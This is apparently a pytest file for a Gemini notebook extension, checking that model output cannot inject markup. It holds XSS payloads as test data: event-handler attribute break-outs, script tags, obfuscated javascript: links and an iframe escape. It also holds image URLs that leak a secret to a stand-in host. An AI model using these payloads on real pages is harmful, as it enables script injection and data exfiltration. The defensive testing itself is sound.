"""Model text cannot become markup: math in attributes, raw HTML, remote images, the Markdown bundle.

Issue 8 items 1-3. Every HTML path ends in the sanitizer (nothing is spliced in after it); raw
HTML in model text is shown as text; remote images are links unless allowed; and the
``text/markdown`` bundle, which some front ends and exports render themselves, carries no raw HTML,
no unsafe link and no auto-loading image either.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import markdown
import mistune
import pytest
from conftest import FAKE_KEY, Kernel, assert_inert, displays
from gemini_server import GeminiTestServer, sse, text_events

from gemini_magic._citations import insert_markers, sources_html, sources_markdown
from gemini_magic._layout import AnswerLayout
from gemini_magic._markdown import render_markdown
from gemini_magic._parts import part_markdown
from gemini_magic._sanitize import sanitize

MATH_FORMS = (("$$", "$$"), ("\\(", "\\)"), ("$a", "b$"), ("\\[", "\\]"))
HANDLER = "window.pwned=1"


def math_payloads() -> list[str]:
    """Math spans wrapped around an attribute break-out, in alt, link text, title and code."""
    found = []
    for o, c in MATH_FORMS:
        found += [
            f'![{o}" onerror="{HANDLER}" x="{c}](https://x.example/a.png)',
            f'[t {o}" onmouseover="{HANDLER}" x="{c}](https://x.example/)',
            f'[t](https://x.example/ "{o}" onfocus="{HANDLER}" x="{c}")',
            f'`{o}" onerror="{HANDLER}" {c}`',
            f'![alt](https://x.example/a.png "{o}" onload="{HANDLER}" x="{c}")',
        ]
    return found


@pytest.fixture
def remote_images() -> Iterator[None]:
    from gemini_magic._sanitize import policy

    policy.remote_images = True
    yield
    policy.remote_images = False


def safe_markdown(text: str) -> str:
    """The text/markdown bundle of an answer holding *text*."""
    layout = AnswerLayout()
    layout.add([{"text": text}])
    return layout.markdown()


class _Content(HTMLParser):
    def __init__(self, fragment: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []
        self.feed(fragment)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def tags(fragment: str) -> list[str]:
    return _Content(fragment).tags


def visible(fragment: str) -> str:
    return "".join(_Content(fragment).text)


@pytest.mark.parametrize("payload", math_payloads())
def test_math_in_attributes_never_breaks_out(payload: str) -> None:
    page = render_markdown(f"Before {payload} after")
    assert_inert(page)  # parsed as a browser would: no on* attribute on any element
    assert "after" in visible(page)


@pytest.mark.parametrize("payload", math_payloads())
def test_math_in_attributes_with_remote_images(payload: str, remote_images: None) -> None:
    page = render_markdown(f"Before {payload} after")
    assert_inert(page)  # parsed as a browser would: no on* attribute on any element
    assert "after" in visible(page)


def test_math_still_typesets_as_text() -> None:
    page = render_markdown(r"Energy $E = m_1 * c^2$ and $$\sum_i x_i * y_i$$ and \(a_b\)")
    assert "$E = m_1 * c^2$" in html.unescape(page) and r"\(a_b\)" in page
    assert "<em>" not in page


def test_math_is_left_alone_inside_code() -> None:
    page = render_markdown("```bash\necho $HOME and $PATH_x$\n```\n\nand `cost $5 and $6`")
    assert "$HOME" in visible(page) and "cost $5 and $6" in visible(page)
    assert "GM" not in page


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Use List<String> here", "Use List<String> here"),
        ("The value is <redacted> now", "The value is <redacted> now"),
        ("a <b> c", "a <b> c"),
        ("<script>window.pwned=1</script>", "<script>window.pwned=1</script>"),
        ('<div onclick="x">hi</div>', '<div onclick="x">hi</div>'),
        ("<!-- note --> kept", "<!-- note --> kept"),
    ],
)
def test_raw_html_in_model_text_is_text(text: str, shown: str) -> None:
    page = render_markdown(text)
    assert visible(page) == shown
    assert tags(page) == ["p"]


def test_br_in_table_cells_still_breaks_lines() -> None:
    page = render_markdown("| a | b |\n|---|---|\n| one<br>two | x<br/>y |")
    assert page.count("<br>") == 2 and "&lt;br" not in page


def test_remote_images_are_links_by_default() -> None:
    page = render_markdown("See ![chart](http://host.example/leak?d=SECRET) and ![](https://h.example/b.png).")
    assert "img" not in tags(page)
    assert visible(page) == "See 🖼 chart and 🖼 image."
    assert 'href="http://host.example/leak?d=SECRET"' in page
    assert "img" not in tags(sanitize('<p><img src="https://h.example/x.png"></p>'))


def test_remote_images_load_when_allowed(remote_images: None) -> None:
    page = render_markdown("See ![chart](https://host.example/c.png).")
    assert tags(page) == ["p", "img"] and 'src="https://host.example/c.png"' in page and 'alt="chart"' in page


def rendered_by_front_end(bundle: str) -> list[str]:
    """The Markdown bundle as renderers that pass raw HTML through would show it."""
    return [markdown.markdown(bundle), str(mistune.html(bundle))]


@pytest.mark.parametrize(
    "text",
    [
        '<img src=x onerror="window.pwned=1"> and <script>x</script>',
        "[x](javascript:window.pwned=1) [y]( jav&#x61;script:1) [z](<javascript:1>)",
        "[r]: javascript:window.pwned=1\n\n[go][r]",
        "<javascript:window.pwned=1> and \\`<img src=x onerror=1>`",
        "![leak](http://host.example/leak?d=SECRET) and \\![leak2](http://host.example/2)",
        "`a` <b onmouseover=x>bold</b> ``b ` c`` <i>",
        "a `span\n\n<img src=x onerror=1>\n\nend` b",
    ],
)
def test_markdown_bundle_has_no_raw_html_or_unsafe_links(text: str) -> None:
    bundle = safe_markdown(text)
    for page in rendered_by_front_end(bundle):
        assert_inert(page)
        assert "img" not in tags(page) and "script" not in tags(page) and "b" not in tags(page), page
        assert "javascript" not in " ".join(re.findall(r'href="([^"]*)"', page)), page


def test_markdown_bundle_keeps_code_and_plain_text_as_written() -> None:
    text = "Use `List<String>` or\n\n```java\nList<String> xs = f(a < b);\n```\n\n[docs](https://docs.example/x) 3 < 4"
    bundle = safe_markdown(text)
    assert "`List<String>`" in bundle and "List<String> xs = f(a < b);" in bundle
    assert "[docs](https://docs.example/x)" in bundle and "3 < 4" in bundle
    assert visible(markdown.markdown(bundle)).count("List<String>") == 2


def test_layout_markdown_bundle_is_safe() -> None:
    layout = AnswerLayout()
    layout.add([{"text": "Hi <img src=x onerror=1> ![p](https://h.example/p.png)"}])
    layout.add([{"executableCode": {"language": "PYTHON", "code": "s = '```'\n<img src=x onerror=1>"}}])
    layout.add([{"functionCall": {"name": "f`<img src=x onerror=1>`", "args": {"q": "`<b>x</b>`"}}}])
    layout.add([{"inlineData": {"mimeType": "<img src=x onerror=1>", "data": "AAAA"}}])
    for page in rendered_by_front_end(layout.markdown()):
        assert "img" not in tags(page) and "b" not in tags(page), page
    json_layout = AnswerLayout(json_mode=True)
    json_layout.add([{"text": '{"a": "```\\n<img src=x onerror=1>"}'}])
    for page in rendered_by_front_end(json_layout.markdown()):
        assert "img" not in tags(page), page


def test_part_markdown_fences_cannot_be_closed_from_inside() -> None:
    code = part_markdown({"executableCode": {"language": "python", "code": "x = '````'"}})
    assert code.startswith("`````python\n") and code.endswith("\n`````")


def test_citation_markers_are_inserted_before_sanitizing() -> None:
    chunks = [{"web": {"uri": 'https://a.example/?q="><script>x</script>', "title": '"><img src=x onerror=1>'}}]
    text, inserts = insert_markers("Cited claim. More.", {12: [1]}, chunks)
    assert "<" not in text
    page = render_markdown(text, inserts)
    assert_inert(page)
    assert "Cited claim.[1]" in visible(page)
    assert "script" not in tags(page) and "img" not in tags(page)
    # a model cannot forge a placeholder: tokens it writes are not filled in
    forged = render_markdown("GMdeadbeefc0Z " + text.replace("Cited", "GM"), inserts)
    assert "GMdeadbeefc0Z" in visible(forged)


def test_search_suggestions_iframe_is_sanitized_with_the_rest() -> None:
    candidate = {
        "groundingMetadata": {
            "groundingChunks": [{"web": {"uri": "https://a.example", "title": "<b>T</b>"}}],
            "searchEntryPoint": {"renderedContent": '"></iframe><script>parent.pwned=1</script><b>chip</b>'},
        }
    }
    page = sources_html(candidate)
    assert_inert(page, iframes=1)
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page and "script" not in tags(page)
    smuggled = sanitize('<iframe src="https://evil.example" sandbox="allow-scripts allow-same-origin"></iframe>')
    assert_inert(smuggled, iframes=1)
    assert "allow-scripts" not in smuggled and "src=" not in smuggled
    for page in rendered_by_front_end(sources_markdown(candidate)):
        assert "b" not in tags(page), page


def hostile_answer() -> str:
    return "Math: " + " ".join(math_payloads()) + "\n\nRaw: List<String> and a <b> c.\n\n![x](http://h.example/leak)"


def test_hostile_answer_in_a_kernel(kernel: Kernel, gemini: GeminiTestServer) -> None:
    gemini.push(sse(text_events(["Start. ", hostile_answer()])))
    outputs = kernel.run("%%gemini\nBe hostile")
    shown = displays(outputs)
    page = shown[0]["data"]["text/html"]
    assert_inert(page)
    assert "img" not in tags(page)
    assert "List<String> and a <b> c." in visible(page)
    for front_end in rendered_by_front_end(shown[0]["data"]["text/markdown"]):
        assert_inert(front_end)
        assert "img" not in tags(front_end) and "b" not in tags(front_end)
    assert "List<String>" in json.loads(kernel.run("import json; print(json.dumps(_gemini.text))")[0]["text"])
    assert FAKE_KEY not in kernel.saved()


def test_remote_images_setting_in_a_kernel(kernel: Kernel, gemini: GeminiTestServer) -> None:
    gemini.push(
        sse(text_events(["![chart](https://h.example/c.png)"])), sse(text_events(["![c](https://h.example/d.png)"]))
    )
    kernel.run("%config GeminiMagic.remote_images = True")
    allowed = displays(kernel.run("%%gemini\nChart"))[0]["data"]["text/html"]
    kernel.run("%config GeminiMagic.remote_images = False")
    blocked = displays(kernel.run("%%gemini\nChart"))[0]["data"]["text/html"]
    assert "img" in tags(allowed) and 'src="https://h.example/c.png"' in allowed
    assert "img" not in tags(blocked) and "🖼 c" in visible(blocked)
